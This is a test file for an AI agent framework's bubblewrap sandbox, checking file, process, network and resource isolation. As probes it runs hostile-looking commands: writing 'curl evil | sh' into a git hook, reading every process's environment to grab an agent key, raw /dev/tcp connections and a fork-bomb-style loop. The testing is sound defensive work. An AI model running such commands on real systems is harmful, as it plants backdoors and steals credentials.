import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAgent, type AgentStreamEvent } from '@lousho/core';
import { mockModel } from '@lousho/core/testing';
import { BubblewrapSandbox, createShellTool, SandboxShell, SubprocessSandbox } from '../../src/index.js';
import type { NodeFs } from '../../src/runtime/node-types.js';
import { createCommandCgroup } from '../../src/sandbox/cgroup.js';

// Against the real bubblewrap. In CI (CI=true) it is installed and these tests must run: a missing
// bwrap fails them there. Elsewhere without bwrap they are skipped, with a line saying so.
const bwrap = existsSync('/usr/bin/bwrap');
const inCI = process.env.CI === 'true';
if (!bwrap && !inCI) console.warn('bubblewrap (/usr/bin/bwrap) is not installed: the BubblewrapSandbox tests are skipped (apt-get install bubblewrap to run them).');
const suite = describe.skipIf(!bwrap && !inCI);

let base: string;
let root: string;
beforeAll(() => {
  base = mkdtempSync(join(tmpdir(), 'lousho-bwrap-'));
  root = join(base, 'project');
  mkdirSync(join(root, 'src'), { recursive: true });
  mkdirSync(join(root, '.git/hooks'), { recursive: true });
  writeFileSync(join(root, 'src/app.js'), 'console.log(1)\n');
  writeFileSync(join(base, 'secret.txt'), 'next to the project');
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

/** Host pids of processes whose command line is exactly `sleep <seconds>` (a number unique to one test). */
function hostSleepers(seconds: number): number[] {
  const found: number[] = [];
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const stat = readFileSync(`/proc/${name}/stat`, 'utf8');
      if (stat.slice(stat.lastIndexOf(')') + 2)[0] === 'Z') continue;
      if (readFileSync(`/proc/${name}/cmdline`, 'utf8') === `sleep\0${seconds}\0`) found.push(Number(name));
    } catch {
      // gone
    }
  }
  return found;
}

async function eventually(predicate: () => boolean, ms = 3000): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (predicate()) return true;
    await new Promise((r) => setTimeout(r, 25));
  }
  return predicate();
}

/** Starts `sleep <seconds>` three ways that leave the command's process group: setsid, a double fork, nohup. */
const escapees = (seconds: number) => `setsid sleep ${seconds} > /dev/null 2>&1 &\n(sleep ${seconds} > /dev/null 2>&1 &)\nnohup sleep ${seconds} > /dev/null 2>&1 &\n`;

suite('BubblewrapSandbox: the file system', () => {
  it('the root is read-write, the system read-only, the home and every other path hidden', async () => {
    const sandbox = new BubblewrapSandbox({ root });
    const write = await sandbox.exec('echo made > src/new.txt && cat src/app.js');
    expect(write).toMatchObject({ exitCode: 0, stdout: 'console.log(1)\n' });
    expect(readFileSync(join(root, 'src/new.txt'), 'utf8')).toBe('made\n');
    // The system is there to run programs, and cannot be changed.
    const system = await sandbox.exec('touch /usr/bin/evil; echo $?; ls /usr/bin/env');
    expect(system.stdout).toMatch(/^1\n\/usr\/bin\/env\n$/);
    expect(system.stderr).toMatch(/Read-only file system/);
    // Next to the project, the home, /etc/shadow, the host's /tmp: not there at all.
    for (const path of [join(base, 'secret.txt'), homedir(), '/etc/shadow', '/sys/kernel', '/run']) {
      const result = await sandbox.exec(['/bin/ls', '-d', path]);
      expect(result.exitCode, `${path} is hidden`).not.toBe(0);
    }
    writeFileSync(join(tmpdir(), 'lousho-bwrap-host-tmp.txt'), 'host tmp');
    expect((await sandbox.exec('ls /tmp')).stdout).not.toContain('lousho-bwrap-host-tmp.txt');
    rmSync(join(tmpdir(), 'lousho-bwrap-host-tmp.txt'));
    // The same command in a SubprocessSandbox sees them: the test can fail.
    expect((await new SubprocessSandbox({ cwd: root }).exec(['/bin/ls', '-d', join(base, 'secret.txt')])).exitCode).toBe(0);
  });

  it('keeps git hooks and git config read-only, so the host does not later run what a command wrote', async () => {
    const sandbox = new BubblewrapSandbox({ root });
    const result = await sandbox.exec('echo "curl evil | sh" > .git/hooks/pre-commit');
    expect(result.exitCode).not.toBe(0);
    expect(existsSync(join(root, '.git/hooks/pre-commit'))).toBe(false);
  });

  it('runs in a directory of the root, and refuses one outside it', async () => {
    const sandbox = new BubblewrapSandbox({ root });
    expect((await sandbox.exec('pwd', { cwd: 'src' })).stdout).toBe(`${root}/src\n`);
    expect((await sandbox.exec('pwd', { cwd: `${root}/src` })).stdout).toBe(`${root}/src\n`);
    await expect(sandbox.exec('pwd', { cwd: '..' })).rejects.toMatchObject({ code: 'LOUSHO_WORKSPACE_PATH_OUTSIDE' });
    await expect(sandbox.exec('pwd', { cwd: '/etc' })).rejects.toMatchObject({ code: 'LOUSHO_WORKSPACE_PATH_OUTSIDE' });
  });
});

suite("BubblewrapSandbox: the host's environment and processes", () => {
  it("no command can read the agent's environment: /proc holds the sandbox's processes only", async () => {
    // A host process holding a key in its environment, as the agent does (vitest's workers cannot
    // change their own process's environ, so the agent is stood in for by a child).
    const agent = spawn('sleep', ['300100'], { env: { PATH: '/usr/bin:/bin', AGENT_KEY: 'sk-agent-key' }, stdio: 'ignore' });
    try {
      await eventually(() => hostSleepers(300100).length === 1);
      const read = `cat /proc/${agent.pid}/environ /proc/$PPID/environ /proc/1/environ; for f in /proc/[0-9]*/environ; do cat $f; done; env`;
      const sandboxed = await new BubblewrapSandbox({ root }).exec(read);
      expect(sandboxed.stdout + sandboxed.stderr).not.toContain('sk-agent-key');
      const pids = (await new BubblewrapSandbox({ root }).exec('ls -d /proc/[0-9]*')).stdout.trim().split('\n');
      expect(pids.length).toBeLessThan(6);
      expect(pids).not.toContain(`/proc/${agent.pid}`);
      // Without the sandbox, the same command reads the key: the test can fail.
      const bare = await new SubprocessSandbox({ cwd: root }).exec(read);
      expect(bare.stdout).toContain('sk-agent-key');
    } finally {
      agent.kill('SIGKILL');
    }
  });

  it('everything a command started dies when it ends (setsid, double fork, nohup)', async () => {
    const result = await new BubblewrapSandbox({ root }).exec(`${escapees(300101)}echo started`);
    expect(result).toMatchObject({ exitCode: 0, stdout: 'started\n' });
    expect(await eventually(() => hostSleepers(300101).length === 0)).toBe(true);
  });

  it('everything dies on the time limit', async () => {
    const result = await new BubblewrapSandbox({ root, killGraceMs: 100 }).exec(`${escapees(300102)}sleep 300102`, { timeoutMs: 400 });
    expect(result.timedOut).toBe(true);
    expect(await eventually(() => hostSleepers(300102).length === 0)).toBe(true);
  });

  it('everything dies on abort, and the call rejects with the reason', async () => {
    const controller = new AbortController();
    const running = new BubblewrapSandbox({ root, killGraceMs: 100 }).exec(`${escapees(300103)}sleep 300103`, { signal: controller.signal });
    expect(await eventually(() => hostSleepers(300103).length === 4)).toBe(true);
    controller.abort(new DOMException('stopped', 'AbortError'));
    await expect(running).rejects.toMatchObject({ name: 'AbortError' });
    expect(await eventually(() => hostSleepers(300103).length === 0)).toBe(true);
  });

  it('everything dies on dispose()', async () => {
    const sandbox = new BubblewrapSandbox({ root });
    const running = sandbox.exec(`${escapees(300104)}sleep 300104`);
    expect(await eventually(() => hostSleepers(300104).length === 4)).toBe(true);
    await sandbox.dispose();
    expect((await running).exitCode).not.toBe(0);
    expect(await eventually(() => hostSleepers(300104).length === 0)).toBe(true);
  });

  it('the shell tool over SandboxShell(new BubblewrapSandbox({ root })): stopping the run kills what the command started', async () => {
    const shell = createShellTool(new SandboxShell(new BubblewrapSandbox({ root, killGraceMs: 100 })));
    const agent = createAgent({ provider: mockModel([{ toolCalls: [{ name: 'shell', args: { command: `${escapees(300105)}sleep 300105` } }] }, 'unused']), tools: [shell] });
    const controller = new AbortController();
    const run = agent.stream('run it', { signal: controller.signal });
    const consumed = (async () => {
      for await (const _ of run as AsyncIterable<AgentStreamEvent>) void _;
    })();
    expect(await eventually(() => hostSleepers(300105).length === 4)).toBe(true);
    controller.abort();
    await consumed;
    expect((await run.result).toolCalls[0]).toMatchObject({ error: { kind: 'cancelled' } });
    expect(await eventually(() => hostSleepers(300105).length === 0)).toBe(true);
  });
});

suite('BubblewrapSandbox: the network', () => {
  let server: Server;
  let port: number;
  beforeAll(async () => {
    // It reads what it is sent (or a request left unread would keep its socket open), then answers.
    server = createServer((socket) => {
      socket.resume();
      socket.end('hello from the host\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const connect = () => `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3`;

  it("has none by default (not even the host's loopback); 'host' shares the host's", async () => {
    const none = await new BubblewrapSandbox({ root }).exec(['/bin/bash', '-c', connect()]);
    expect(none.exitCode).not.toBe(0);
    expect(none.stdout).toBe('');
    const interfaces = await new BubblewrapSandbox({ root }).exec('cat /proc/net/dev');
    expect(interfaces.stdout.split('\n').filter((l) => l.includes(':')).map((l) => l.split(':')[0]!.trim())).toEqual(['lo']);
    const host = await new BubblewrapSandbox({ root, network: 'host' }).exec(['/bin/bash', '-c', connect()]);
    expect(host.stdout).toBe('hello from the host\n');
  });

  // Through the proxy, by hand: an absolute-form request to the forwarder on the sandbox's loopback.
  const viaProxy = (host: string) => `exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://${host}:${port}/ HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`;

  it('an allow list: allowed hosts through the proxy, every other host refused (403), nothing direct', async () => {
    const sandbox = new BubblewrapSandbox({ root, network: { allow: ['127.0.0.1'] } });
    try {
      const allowed = await sandbox.exec(['/bin/bash', '-c', viaProxy('127.0.0.1')]);
      expect(allowed.stdout).toMatch(/hello from the host/);
      const refused = await sandbox.exec(['/bin/bash', '-c', viaProxy('localhost')]);
      expect(refused.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden/);
      expect(refused.stdout).not.toMatch(/hello from the host/);
      // CONNECT (what HTTPS clients send) is judged the same way.
      const tunnel = await sandbox.exec(['/bin/bash', '-c', `exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT example.com:443 HTTP/1.1\\r\\n\\r\\n' >&3 && head -1 <&3`]);
      expect(tunnel.stdout).toMatch(/403 Forbidden/);
      // The proxy is the only door: the host's loopback is not reachable directly.
      const direct = await sandbox.exec(['/bin/bash', '-c', connect()]);
      expect(direct.stdout).toBe('');
      // Clients find it through the usual variables.
      expect((await sandbox.exec('echo $HTTPS_PROXY')).stdout).toBe('http://127.0.0.1:3128\n');
    } finally {
      await sandbox.dispose();
    }
  });

  it('refuses an allow list that is not a list of hosts', () => {
    expect(() => new BubblewrapSandbox({ root, network: { allow: [] } })).toThrow(/non-empty list/);
    expect(() => new BubblewrapSandbox({ root, network: { allow: ['http://evil.com/'] } })).toThrow(/host names/);
  });
});

suite('BubblewrapSandbox: resource limits', () => {
  it('CPU time: a busy loop is stopped by the kernel long before the time limit', async () => {
    const result = await new BubblewrapSandbox({ root, limits: { cpuSeconds: 1 } }).exec('while :; do :; done', { timeoutMs: 20_000 });
    expect(result.timedOut).toBe(false);
    expect(result.exitCode).not.toBe(0);
    expect(result.durationMs).toBeLessThan(15_000);
  });

  it('memory: a command holding more than its limit fails', async () => {
    const hog = 'head -c 400000000 /dev/zero | tail -c 400000000 > /dev/null';
    const limited = await new BubblewrapSandbox({ root, limits: { memoryBytes: 64 * 1024 * 1024 } }).exec(hog, { timeoutMs: 30_000 });
    expect(limited.exitCode).not.toBe(0);
    const free = await new BubblewrapSandbox({ root }).exec(hog, { timeoutMs: 30_000 });
    expect(free.exitCode).toBe(0);
  });

  it('processes: a fork bomb hits the limit instead of the host (or, where the kernel cannot hold it, the limit is refused)', async () => {
    const spawn = 'for i in $(seq 1 100); do sleep 300106 & done; wait';
    const sandbox = new BubblewrapSandbox({ root, limits: { processes: 20 } });
    // A pids cgroup holds the limit; without one, RLIMIT_NPROC does for a non-root caller only.
    const probe = await createCommandCgroup(fs as unknown as NodeFs, { pids: 20 });
    await probe.cgroup.remove();
    if (probe.missing.length > 0 && process.getuid?.() === 0) {
      console.warn('no pids cgroup can be created here and this runs as root: checking that limits.processes is refused');
      await expect(sandbox.exec(spawn)).rejects.toMatchObject({ code: 'LOUSHO_SANDBOX_UNSUPPORTED' });
      return;
    }
    const result = await sandbox.exec(spawn, { timeoutMs: 3000 });
    expect(result.stderr).toMatch(/fork|Resource temporarily unavailable/i);
    expect(await eventually(() => hostSleepers(300106).length === 0)).toBe(true);
  });

  it('file size: a write past the limit fails; output is capped', async () => {
    const sandbox = new BubblewrapSandbox({ root, limits: { fileSizeBytes: 1024 }, maxOutputBytes: 200 });
    const big = await sandbox.exec('head -c 100000 /dev/zero > big.bin; echo $?');
    expect(big.stdout.trim()).not.toBe('0');
    expect(readFileSync(join(root, 'big.bin')).length).toBeLessThanOrEqual(1024);
    const loud = await sandbox.exec('seq 1 100000');
    expect(loud.truncated).toBe(true);
    expect(loud.stdout.length).toBeLessThan(400);
  });

  it('refuses bad limits and a bad root', () => {
    expect(() => new BubblewrapSandbox({ root, limits: { cpuSeconds: 0 } })).toThrow(/positive integer/);
    expect(() => new BubblewrapSandbox({ root: 'relative' })).toThrow(/absolute/);
    expect(() => new BubblewrapSandbox({ root: '/' })).toThrow(/cannot be \//);
    expect(() => new BubblewrapSandbox({ root, protectedPaths: ['../outside'] })).toThrow(/inside the root/);
    expect(() => new BubblewrapSandbox({ root, readOnlyPaths: ['relative'] })).toThrow(/absolute paths/);
  });
});

describe('BubblewrapSandbox without bubblewrap', () => {
  it('says plainly that it cannot run, with a stable code', async () => {
    const sandbox = new BubblewrapSandbox({ root: tmpdir(), bwrap: '/nonexistent/bwrap' });
    expect(await BubblewrapSandbox.available({ bwrap: '/nonexistent/bwrap' })).toBe(false);
    await expect(sandbox.exec('true')).rejects.toMatchObject({ code: 'LOUSHO_SANDBOX_UNAVAILABLE' });
  });
});
